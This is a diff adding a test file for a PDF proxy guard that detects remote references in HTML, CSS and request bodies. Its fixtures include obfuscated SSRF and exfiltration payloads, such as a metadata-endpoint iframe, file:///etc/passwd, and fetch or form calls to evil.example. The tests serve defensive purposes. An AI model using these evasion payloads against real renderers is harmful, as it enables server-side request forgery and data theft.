@@ -1,0 +1,149 @@
+// The `/v1/pdf*` remote-reference guard as a table of documents: every kind of reference the design
+// names, written with tricky casing, character references, whitespace and escapes, must be found;
+// local references (data: URIs, fragments, relative paths) and text that merely mentions a URL pass.
+import assert from 'node:assert/strict';
+import { test } from 'node:test';
+import { decodeEntities, findRemoteInBody, findRemoteReference, isRemoteUrl } from '../../data-plane/proxy/pdf-guard.js';
+
+/** [document, what the finding names (a substring of `where`), the URL it names (substring)] */
+const REMOTE: Array<[string, string, string]> = [
+  ['<img src="http://evil.example/x.png">', 'img src', 'http://evil.example/x.png'],
+  ['<IMG SRC="HTTPS://EVIL.EXAMPLE/X.PNG">', 'img src', 'HTTPS://EVIL.EXAMPLE/X.PNG'],
+  ["<img src='https://evil.example/a.png'>", 'img src', 'https://evil.example'],
+  ['<img src=https://evil.example/a.png>', 'img src', 'https://evil.example'],
+  ['<img\nsrc\n=\n"https://evil.example/a.png"\n>', 'img src', 'https://evil.example'],
+  ['<img src="  \t https://evil.example/a.png">', 'img src', 'https://evil.example'],
+  ['<img src="ht\ttp://evil.example/a.png">', 'img src', 'evil.example'],
+  [`<img src="h${'\t'.repeat(10_000)}ttps://evil.example/a.png">`, 'img src', 'evil.example'],
+  ['<img src="h&#116;tp://evil.example/">', 'img src', 'http://evil.example'],
+  ['<img src="&#x68;&#x74;&#x74;&#x70;&#x3a;//evil.example/">', 'img src', 'http://evil.example'],
+  ['<img src="https&colon;//evil.example/">', 'img src', 'https://evil.example'],
+  ['<img src="https&#58//evil.example/">', 'img src', 'https://evil.example'],
+  ['<img src="//evil.example/a.png">', 'img src', '//evil.example'],
+  ['<img src="\\\\evil.example\\a.png">', 'img src', 'evil.example'],
+  ['<img src="/\\evil.example/a.png">', 'img src', 'evil.example'],
+  ['<img src="&sol;&sol;evil.example/a.png">', 'img src', '//evil.example'],
+  ['<a href="https://example.com/">link</a>', 'a href', 'https://example.com'],
+  ['<link rel="stylesheet" href="//cdn.example/x.css">', 'link href', '//cdn.example'],
+  ['<img srcset="a.png 1x, https://evil.example/b.png 2x">', 'img srcset', 'https://evil.example/b.png'],
+  ['<picture><source SRCSET="//evil.example/b.webp"></picture>', 'source srcset', '//evil.example'],
+  ['<div style="background: url(https://evil.example/bg.png)"></div>', 'style url()', 'https://evil.example'],
+  ['<div style="background:URL( \'//evil.example/bg.png\' )"></div>', 'style url()', '//evil.example'],
+  ['<div style="background:u\\72l(https://evil.example/bg.png)"></div>', 'style url()', 'https://evil.example'],
+  ['<div style="background:url(&quot;https://evil.example/bg.png&quot;)"></div>', 'style url()', 'https://evil.example'],
+  ['<style>body { background: url("http://evil.example/bg.png") }</style>', 'style url()', 'http://evil.example'],
+  ['<style>@import "https://evil.example/x.css";</style>', 'style @import', 'https://evil.example'],
+  ["<style>@IMPORT '//evil.example/x.css';</style>", 'style @import', '//evil.example'],
+  ['<style>@import url(https://evil.example/x.css);</style>', 'style url()', 'https://evil.example'],
+  // A comment splits the at-keyword (no longer an @import for a browser); the URL is refused anyway.
+  ['<style>@im/**/port "https://evil.example/x.css";</style>', 'style', 'https://evil.example'],
+  ['<style>div { background-image: image-set("https://evil.example/a.png" 1x) }</style>', 'image-set', 'https://evil.example'],
+  ['<style>@font-face { font-family: x; src: url(https://evil.example/f.woff2) }</style>', 'style url()', 'https://evil.example'],
+  ['<meta http-equiv="refresh" content="0; url=https://evil.example/">', 'meta refresh', 'https://evil.example'],
+  ['<META HTTP-EQUIV="Refresh" CONTENT="5;URL=\'//evil.example/\'">', 'meta refresh', '//evil.example'],
+  ['<base href="https://evil.example/">', 'base href', 'https://evil.example'],
+  ['<object data="https://evil.example/x.swf"></object>', 'object data', 'https://evil.example'],
+  ['<embed src="//evil.example/x">', 'embed src', '//evil.example'],
+  ['<iframe src="http://169.254.169.254/latest/meta-data/"></iframe>', 'iframe src', '169.254.169.254'],
+  ['<video poster="https://evil.example/p.jpg"></video>', 'video poster', 'https://evil.example'],
+  ['<svg><image xlink:href="https://evil.example/i.png"/></svg>', 'image xlink:href', 'https://evil.example'],
+  ['<svg><use href="//evil.example/s.svg#a"/></svg>', 'use href', '//evil.example'],
+  ['<svg><style>rect { fill: url(&quot;https://evil.example/p.svg#x&quot;) }</style></svg>', 'style url()', 'https://evil.example'],
+  ['<form action="https://evil.example/collect"><button>go</button></form>', 'form action', 'https://evil.example'],
+  ['<iframe srcdoc="&lt;img src=&quot;https://evil.example/x.png&quot;&gt;"></iframe>', 'iframe srcdoc: img src', 'https://evil.example'],
+  ['<img src="file:///etc/passwd">', 'img src', 'file:///etc/passwd'],
+  ['<img src="ftp://evil.example/x">', 'img src', 'ftp://evil.example'],
+  ['<script>fetch("https://evil.example/steal")</script>', 'script', 'https://evil.example'],
+  ['<p>ok</p><img alt="x>y" src="https://evil.example/a.png">', 'img src', 'https://evil.example'],
+  // A quote or comment opener inside a CSS string must not hide what follows it.
+  ['<style>p::before { content: "\\"" } body { background: url(https://evil.example/a.png) }</style>', 'style url()', 'https://evil.example'],
+  ['<style>p::before { content: "/*" } body { background: url(https://evil.example/a.png) } /* */</style>', 'style url()', 'https://evil.example'],
+  ['<div style="background:u\\72 l(https://evil.example/bg.png)"></div>', 'style url()', 'https://evil.example'],
+  ['<style>@import "\\68ttps://evil.example/x.css";</style>', 'style @import', 'https://evil.example'],
+];
+
+test('large hostile documents are read in linear time', () => {
+  // Many openers without their closers: a backtracking reader would take minutes here.
+  const n = 100_000;
+  const docs = [
+    `<div style="${'url('.repeat(n)}">`,
+    `<style>${'@import "'.repeat(n)}</style>`,
+    `<style>${'image-set('.repeat(n)}</style>`,
+    `${'<style>'.repeat(n)}`,
+    `<p a="${'x'.repeat(n * 10)}`,
+    `<img src="a${' '.repeat(n * 10)}b">`,
+  ];
+  const started = performance.now();
+  for (const d of docs) findRemoteReference(d);
+  const ms = performance.now() - started;
+  assert.ok(ms < 5000, `took ${ms.toFixed(0)} ms`);
+});
+
+const LOCAL: Array<[string, string]> = [
+  ['<p>Hello, world</p>', 'plain text'],
+  ['<img src="data:image/png;base64,iVBORw0KGgo=">', 'a data: URI'],
+  ['<img src="DATA:image/svg+xml,%3Csvg%3E%3C/svg%3E">', 'a data: URI in capitals'],
+  ['<img srcset="data:image/png;base64,AAAA 1x, b.png 2x">', 'a srcset of local images'],
+  ['<a href="#section-2">jump</a>', 'a fragment'],
+  ['<a href="chapter/2.html">next</a><img src="./img/a.png"><img src="../b.png"><img src="/c.png">', 'relative paths'],
+  ['<a href="mailto:someone@example.com">mail</a><a href="tel:+441234">call</a>', 'mailto: and tel: links'],
+  ['<div style="background: url(#grad)"></div><style>p { background: url(img/bg.png) } @import "print.css";</style>', 'local CSS references'],
+  ['<p>See https://example.com for details, or //example.com.</p>', 'a URL in text is not a reference'],
+  ['<!-- <img src="https://evil.example/a.png"> --><p>x</p>', 'a reference inside a comment'],
+  ['<p title="https://example.com/">hover</p>', 'a URL in a non-URL attribute'],
+  ['<meta http-equiv="refresh" content="30">', 'a meta refresh without a URL'],
+  ['<meta http-equiv="refresh" content="0; url=page2.html">', 'a meta refresh to a relative page'],
+  ['<script>// a comment\nconst x = 1 // another</script>', 'script line comments'],
+  ['<textarea><img src="https://evil.example/a.png"></textarea>', 'markup inside a textarea is text'],
+  ['', 'an empty document'],
+];
+
+test('every remote reference is found, whatever its spelling', () => {
+  for (const [doc, where, url] of REMOTE) {
+    const found = findRemoteReference(doc);
+    assert.ok(found, `not found in ${doc}`);
+    assert.ok(found.where.includes(where), `${doc}: found at "${found.where}", expected "${where}"`);
+    assert.ok(found.url.includes(url), `${doc}: named "${found.url}", expected it to include "${url}"`);
+  }
+});
+
+test('local references and text pass', () => {
+  for (const [doc, why] of LOCAL) assert.equal(findRemoteReference(doc), null, `${why}: ${doc}`);
+});
+
+test('isRemoteUrl: schemes, protocol-relative forms and whitespace', () => {
+  const rows: Array<[string, boolean]> = [
+    ['http://a', true],
+    ['HTTPS://a', true],
+    ['//a', true],
+    ['\\\\a', true],
+    [' \n//a', true],
+    ['ja\tvascript:alert(1)', true],
+    ['data:text/plain,hi', false],
+    ['about:blank', false],
+    ['#x', false],
+    ['a/b', false],
+    ['/a', false],
+    ['?q=1', false],
+    ['', false],
+  ];
+  for (const [u, want] of rows) assert.equal(isRemoteUrl(u), want, JSON.stringify(u));
+});
+
+test('character references decode with and without the semicolon', () => {
+  assert.equal(decodeEntities('&#104;&#x74;&#X74;p&colon;&sol;&sol;a&amp;b&unknown;'), 'http://a&b&unknown;');
+});
+
+test('bodies: JSON string fields are read as HTML; other types as text', () => {
+  const json = Buffer.from(JSON.stringify({ html: '<img src="https://evil.example/x.png">', options: { format: 'A4' } }));
+  assert.equal(findRemoteInBody(json, 'application/json')?.url, 'https://evil.example/x.png');
+  // JSON escapes (\/, \u003c) are decoded before reading.
+  const escaped = Buffer.from('{"html":"\\u003cimg src=\\"https:\\/\\/evil.example\\/x.png\\"\\u003e"}');
+  assert.equal(findRemoteInBody(escaped, 'application/json; charset=utf-8')?.url, 'https://evil.example/x.png');
+  assert.equal(findRemoteInBody(Buffer.from('{"html":"<p>ok</p>","url":"https://not-html.example"}'), 'application/json'), null);
+  assert.ok(findRemoteInBody(Buffer.from('<img src=//evil.example/x>'), 'text/html'));
+  const multipart = Buffer.from('--b\r\nContent-Disposition: form-data; name="file"; filename="a.html"\r\nContent-Type: text/html\r\n\r\n<link href="https://evil.example/c.css" rel=stylesheet>\r\n--b--\r\n');
+  assert.ok(findRemoteInBody(multipart, 'multipart/form-data; boundary=b'));
+  // Malformed JSON is still read as text, so it cannot hide a reference.
+  assert.ok(findRemoteInBody(Buffer.from('{"html": "<img src=\'https://evil.example/x\'>"'), 'application/json'));
+});
